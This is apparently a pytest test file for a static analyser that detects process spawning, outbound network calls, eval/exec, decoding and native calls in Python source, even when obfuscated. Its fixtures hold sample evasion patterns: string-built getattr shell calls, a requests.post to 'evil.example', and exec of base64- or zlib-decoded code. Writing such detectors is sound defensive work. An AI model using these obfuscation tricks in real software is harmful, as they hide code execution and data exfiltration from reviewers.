"""What Python code can do is found by what it means, not by the words in it."""

from __future__ import annotations

import pytest

from streams.attesting.abilities import DECODING, DYNAMIC, NATIVE, OUTBOUND, PROCESS, abilities
from streams.attesting.report import Ability, Level


def able(source: str) -> list[Ability]:
    return abilities("server.py", source.encode())[0]


@pytest.mark.parametrize(
    ("source", "ability", "call"),
    [
        ("import os\nos.system('true')", PROCESS, "os.system"),
        ("import os as o\nx = o.system\nx('true')", PROCESS, "os.system"),
        ("from subprocess import run as r\ndef f():\n    r(['true'])", PROCESS, "subprocess.run"),
        ("def f():\n    return getattr(os, 'sys' + 'tem')('true')\nimport os", PROCESS, "os.system"),
        ("__import__('os').popen('true')", PROCESS, "os.popen"),
        ("import importlib\nimportlib.import_module('subprocess').run('x')", PROCESS, "subprocess.run"),
        ("import os\nos.__dict__['system']('x')", PROCESS, "os.system"),
        ("import sys\nsys.modules['os'].system('x')", PROCESS, "os.system"),
        ("from os import *\nsystem('x')", PROCESS, "os.system"),
        ("import os, threading\nthreading.Thread(target=os.system, args=('x',))", PROCESS, "os.system"),
        ("import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('x')", PROCESS, ""),
        ("import requests\nrequests.post('https://evil.example/x', data=1)", OUTBOUND, "requests.post to evil.example"),
        ("from httpx import AsyncClient\nAsyncClient()", OUTBOUND, "httpx.AsyncClient"),
        ("from urllib import request\nrequest.urlopen(u)", OUTBOUND, "urllib.request.urlopen"),
        ("import urllib.request\nurllib.request.urlopen(f'https://a.example/{x}')", OUTBOUND, ""),
        ("import socket\ns = socket.socket()", OUTBOUND, "socket.socket"),
        ("eval(x)", DYNAMIC, "eval"),
        ("import builtins\nbuiltins.exec(x)", DYNAMIC, "exec"),
        ("getattr(__builtins__, 'ev' + 'al')(x)", DYNAMIC, "eval"),
        ("__builtins__['exec'](x)", DYNAMIC, "exec"),
        ("list(map(eval, xs))", DYNAMIC, "eval"),
        ("import os\ngetattr(os, name)('x')", DYNAMIC, "a name computed at run time"),
        ("import pickle\npickle.loads(x)", DYNAMIC, "pickle.loads"),
        ("import base64\nbase64.b64decode(x)", DECODING, "base64.b64decode"),
        ("bytes.fromhex(x)", DECODING, "bytes.fromhex"),
        ("import codecs\ncodecs.decode(x, 'rot13')", DECODING, "codecs.decode"),
        ("x.decode('rot13')", DECODING, "decode rot13"),
        ("import ctypes\nctypes.CDLL('x')", NATIVE, "ctypes.CDLL"),
    ],
)
def test_an_ability_is_found_however_it_is_written(source: str, ability: str, call: str) -> None:
    found = [each for each in able(source) if each.ability == ability]
    assert found
    assert not call or call in {each.call for each in found}


@pytest.mark.parametrize(
    "source",
    [
        "# subprocess.run, eval(x), requests.get\n'os.system'\nx = 'exec(1)'",
        "def evaluate(x):\n    return x\nevaluate(1)",
        "class Session:\n    def exec(self, query): ...\nSession().exec('select 1')",
        "import re\nre.compile('x')",
        "b'x'.decode('utf-8')",
        "import json\njson.loads('{}')",
        "from os import path\npath.join('a', 'b')",
        "import subprocess",
        "model.eval()",
        "import httpx\ndef f(timeout=httpx.Timeout(3.0)): ...",
    ],
)
def test_words_are_no_abilities(source: str) -> None:
    assert able(source) == []


def test_what_runs_on_import_is_told_from_what_runs_when_called() -> None:
    found = able(
        "import os\nos.system('a')\ndef f(x=os.system('b')):\n    os.system('c')\nclass A:\n    os.system('d')\n"
    )
    assert [(each.line, each.on_import, each.within) for each in found] == [
        (2, True, "module"),
        (3, True, "module"),
        (4, False, "f"),
        (6, True, "module"),
    ]


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import base64, zlib\nexec(compile(zlib.decompress(base64.b64decode(x)), 'x', 'exec'))",
        "from base64 import b64decode as d\ncode = d(x).decode()\nexec(code)",
    ],
)
def test_running_what_was_decoded_is_an_alarm(source: str) -> None:
    _, concerns = abilities("a.py", source.encode())
    assert any(concern.level is Level.ALARM and "decodes" in concern.text for concern in concerns)


@pytest.mark.parametrize(
    ("source", "level"),
    [
        (b"def f(:", Level.WARN),
        (b"x = 1\0", Level.WARN),
        (b"# coding: rot13\nvzcbeg bf", Level.ALARM),
        (b"# coding: utf-7\nx = 1", Level.ALARM),
        (b"x = " + b"(" * 5_000 + b")" * 5_000, None),
        (b"x = " + b"-" * 100_000 + b"1", None),
        (b"x = " + b"+".join([b"'a'"] * 20_000), None),
        (b" " * 4_000_001, Level.ALARM),
    ],
)
def test_source_that_cannot_be_read_is_said(source: bytes, level: Level | None) -> None:
    found, (concern,) = abilities("a.py", source)
    assert found == []
    assert level is None or concern.level is level


def test_a_byte_order_mark_and_latin_1_are_read() -> None:
    assert abilities("a.py", b"\xef\xbb\xbfeval(x)")[0]
    assert abilities("a.py", b"# coding: latin-1\neval('\xe9')")[0]
